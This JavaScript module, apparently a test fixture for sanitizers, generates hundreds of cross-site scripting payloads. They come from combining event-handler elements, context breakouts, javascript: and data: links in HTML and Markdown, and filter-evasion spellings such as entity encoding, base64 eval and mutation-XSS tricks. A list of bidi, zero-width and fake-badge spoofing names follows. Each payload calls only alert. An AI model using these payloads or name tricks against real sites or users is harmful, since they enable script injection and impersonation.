/**
 * Texts that would run as code wherever somebody took them for markup, for an address, for a template or for part of a script: a small
 * table of vectors, multiplied by where they might land and how they might be spelled. Every one calls `alert` with its own number.
 *
 * And names that try to look like something else: turned around, invisible, stacked, or with a padlock of their own.
 */

/** A call, in the spellings that filters have missed. @type {((number: number) => string)[]} */
const CALLS = [
  (n) => `alert(${n})`,
  (n) => `alert\`${n}\``,
  (n) => `&#97;lert(${n})`,
  (n) => `&#x61;&#x6c;ert&lpar;${n}&rpar;`,
  (n) => `\\u0061lert(${n})`,
  (n) => `top['al'+'ert'](${n})`,
  (n) => `[${n}].map(alert)`,
  (n) => `eval(atob('${Buffer.from(`alert(${n})`).toString("base64")}'))`,
  (n) => `setTimeout('ale'+'rt(${n})')`,
  (n) => `Function('ale'+'rt(${n})')()`,
];

/** Elements that call by themselves. @type {((call: string) => string)[]} */
const ELEMENTS = [
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<IMG/SRC=x OnErRoR="${call}">`,
  (call) => `<img src=x\nonerror\n=\n"${call}">`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg/onload="${call}"//`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin="${call}" attributeName=x to=1>`,
  (call) => `<svg><image href=x onerror="${call}">`,
  (call) => `<img srcset=x:x onerror="${call}">`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}">`,
  (call) => `<details open ontoggle="${call}">x</details>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}"></select>`,
  (call) => `<textarea autofocus onfocus="${call}"></textarea>`,
  (call) => `<div tabindex=0 autofocus onfocus="${call}">x</div>`,
  (call) => `<object data=x:x onerror="${call}"></object>`,
  (call) => `<style onload="${call}">x{}</style>`,
  (call) => `<link rel=stylesheet href=x:x onerror="${call}">`,
  (call) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${call}">x</p>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<script>${call}</script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<body onload="${call}">`,
];

/** What closes where the text stands. */
const BREAKOUTS = [`">`, `'>`, `\`>`, `</title>`, `</textarea>`, `</style>`, `</script>`, `</noscript>`, `-->`, `]]>`, `</p></main>`, `\u0000<`];

/** A scheme that leads into code, in the spellings that filters have missed. @type {((call: string) => string)[]} */
const ADDRESSES = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java&#x0A;script:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `javascript://example.org/%0a${call}`,
  (call) => `javascript:/*https://example.org/*/${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString("base64")}`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `vbscript:${call}`,
  (call) => `blob:https://example.org/${call}`,
];

/** Where an address might be followed. @type {((address: string) => string)[]} */
const LINKS = [
  (address) => address,
  (address) => `[your invoice](${address})`,
  (address) => `[your invoice](<${address}> "title")`,
  (address) => `![picture](${address})`,
  (address) => `[1]: ${address}\n[your invoice][1]`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">your invoice</a>`,
  (address) => `https://example.org/"onmouseover="${address}`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<math><maction xlink:href="${address}">x</maction></math>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
];

/** Markup that changes its meaning when it is read twice, templates, and ends of scripts. @type {((call: string) => string)[]} */
const ODDITIES = [
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}<%= ${call} %>{%${call}%}`,
  (call) => `";${call}//`,
  (call) => `';${call}//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `<base href="data:text/html,"><meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<div style="background:url(javascript:${call});width:expression(${call})">x</div>`,
  (call) => `<b id=config name=config>clobber</b><form id=document><input name=cookie value="${call}">`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
];

/** All of them, each once. @type {readonly string[]} */
export const PAYLOADS = (() => {
  /** @type {((call: string) => string)[]} */
  const texts = [];
  /** @type {((number: number) => string)[]} */
  const made = [];
  for (const element of ELEMENTS) for (const call of CALLS) made.push((n) => element(call(n)));
  for (const breakout of BREAKOUTS) for (const element of ELEMENTS.slice(0, 5)) texts.push((call) => breakout + element(call));
  for (const address of ADDRESSES) for (const link of LINKS) texts.push((call) => link(address(call)));
  texts.push(...ODDITIES);
  for (const text of texts) made.push((n) => text(`alert(${n})`));
  return [...new Set(made.map((text, index) => text(index + 1)))];
})();

/** Bidi, zero-width and look-alike tricks around a name that might be believed. @type {readonly string[]} */
export const NAMES = [
  ...["\u202e", "\u202d", "\u202a\u202b", "\u2066\u2067", "\u2068", "\u200f", "\u061c"].map((mark) => `${mark}Jane${mark} Doe`),
  ...["\u200b", "\u200c\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u{e0041}"].map((mark) => `J${mark}an${mark}e`),
  ...["🔒", "🔏", "🔐", "🛡️", "✅", "✔️", "☑", "🆗", "√", "𐄂"].map((mark) => `${mark} Verified · 4 min ago ${mark}`),
  `J${"\u0301".repeat(60)}ane`,
  "ＪＡＮＥ　ＤＯＥ",
  "Signet",
  "Jane\nVerified",
  "\u3164",
  "x".repeat(250),
];

/**
 * Several texts as one, none longer than a limit.
 * @param {readonly string[]} texts
 * @param {number} longest in characters
 */
export function packed(texts, longest) {
  /** @type {string[][]} */
  const groups = [[]];
  let room = longest;
  for (const text of texts) {
    const length = [...text].length + 1;
    if (length > room) {
      groups.push([]);
      room = longest;
    }
    groups.at(-1)?.push(text);
    room -= length;
  }
  return groups.map((group) => group.join("\n"));
}
